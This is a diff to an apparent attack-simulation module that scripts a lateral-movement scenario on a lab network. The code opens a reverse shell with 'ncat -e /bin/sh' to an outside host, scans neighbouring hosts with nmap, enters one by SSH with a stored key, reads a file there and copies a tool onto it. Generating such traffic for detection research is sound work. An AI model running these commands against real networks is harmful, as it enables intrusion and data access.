@@ -1,12 +1,11 @@
 """After a foothold: an insider's host is steered from outside and goes on to its neighbours."""
 from ..benign import CURL, SSH
-from .job import Missed, attack
+from .job import Missed, attack, together
 
 
 @attack("infiltration", "ncat", "ssh", "nmap")
 def lateral_movement(job):
     """A reverse shell from a desktop; through it, a tool is fetched, neighbours looked at, one of them entered by SSH."""
-    from ..services import KEY
     rng = job.rng
     foothold = rng.choice(job.plan.by_role("client"))
     outside = [h for h in job.plan.by_role("outside") if "web" in h.services]
@@ -26,16 +25,26 @@ def lateral_movement(job):
             shell = job.start(foothold, ["ncat", "-4", "-w", "20", "-e", "/bin/sh", master.v4, port])
             job.sleep(rng.uniform(1, 3))
             job.run(foothold, [*CURL, f"http://{master.v4}:{master.services['web']}{rng.choice(job.services.pages)[0]}"], 12)
-            near = [h for h in job.plan.by_role("client", "server") if h is not foothold and h is not door]
-            look = rng.sample(near, min(3, len(near)))
-            with job.claim(foothold, [door, *look], name="lateral_movement"):
-                job.run(foothold, ["nmap", "-n", "-Pn", "--send-ip", "--disable-arp-ping", "-sT", "-T3", "--max-retries", "1", "-p",
-                                   f"22,80,139,445,3389,{door.services['ssh']}", *[h.v4 for h in (door, *look)]], 15)
-                there = ["-o", "BatchMode=yes", "-i", KEY]
-                for _ in range(rng.randint(1, 4)):
-                    job.run(foothold, ["ssh", *SSH, *there, "-p", door.services["ssh"], f"{user}@{door.v4}", rng.choice(("id; ls -la", "cat file0.bin | head -c 60000", "ps aux"))], 8)
-                    job.sleep(rng.uniform(0.2, 2))
-                job.run(foothold, ["scp", "-q", *SSH, *there, "-P", door.services["ssh"], "/usr/bin/nmap", f"{user}@{door.v4}:tool"], 12)
+            near = [h for h in job.plan.by_role("client", "server") if h not in (foothold, door)]
+            look = rng.sample(near, min(rng.randint(2, 5), len(near)))
+            together(job, look, lambda host: job.claim(foothold, host, name="lateral_movement"), lambda host: _look_at(job, foothold, host))
+            with job.claim(foothold, door, name="lateral_movement"):
+                _enter(job, foothold, door, user)
             job.end(shell)
     finally:
         job.end(listener)
+
+
+def _look_at(job, foothold, host):
+    job.run(foothold, ["nmap", "-n", "-Pn", "--send-ip", "--disable-arp-ping", "-sT", "-T3", "--max-retries", "1", "-p",
+                       job.rng.choice(("22,80,139,445,3389", "22,2222", "21-25,80,443,6379")), host.v4], 12)
+
+
+def _enter(job, foothold, door, user):
+    from ..services import KEY
+    there = ["-o", "BatchMode=yes", "-i", KEY]
+    for _ in range(job.rng.randint(1, 4)):
+        job.run(foothold, ["ssh", *SSH, *there, "-p", door.services["ssh"], f"{user}@{door.v4}",
+                           job.rng.choice(("id; ls -la", "head -c 60000 file0.bin", "ps aux"))], 8)
+        job.sleep(job.rng.uniform(0.2, 2))
+    job.run(foothold, ["scp", "-q", *SSH, *there, "-P", door.services["ssh"], "/usr/bin/nmap", f"{user}@{door.v4}:tool"], 12)
